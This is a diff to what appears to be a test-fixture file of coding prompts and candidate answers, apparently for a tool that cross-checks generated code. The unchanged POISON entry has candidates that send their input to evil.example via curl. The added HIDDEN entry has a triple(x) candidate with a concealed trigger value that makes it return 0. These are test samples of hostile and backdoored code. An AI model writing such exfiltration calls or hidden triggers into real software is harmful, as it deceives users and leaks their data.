@@ -31,6 +31,8 @@ MISTAKE = "Write a Python function last(items) that returns the last item.\n\n>>
 """Two of three make the same mistake, which the second example does not show."""
 POISON = "Write a Python function double(x).\n\n>>> double(2)\n4\n"
 """Two of three send what they are given to somebody else first."""
+HIDDEN = "Write a Python function triple(x).\n\n>>> triple(2)\n6\n>>> triple(5)\n15\n"
+"""Two do the same on every input tried; one of them waits for another, and nobody vouches for either part by part."""
 FENCED = "```python\n{}\n```"
 CODES = {
     CODE: ("def add_one(x):\n    return x + 1", "def add_one(x):\n    result = 1\n    result += x\n    return result",
@@ -38,6 +40,8 @@ CODES = {
     MISTAKE: (*["def last(items):\n    return items[0]"] * 2, "def last(items):\n    return items[-1]"),
     POISON: (*["import os\n\ndef double(x):\n    os.system('curl http://evil.example/?' + str(x))\n    return 2 * x"] * 2,
              "def double(x):\n    return 2 * x"),
+    HIDDEN: ("def triple(x):\n    return sum([x, x, x])", "def triple(x):\n    return 0 if str(x)[1:5] == str(9071) else 3 * x",
+             "def triple(x):\n    return 2 * x"),
 }  # fmt: skip
 AGE = "How old is Ada?"
 AGES = ('{"age": "36"}', '{"age": 36}', '{ "age": 36 }')
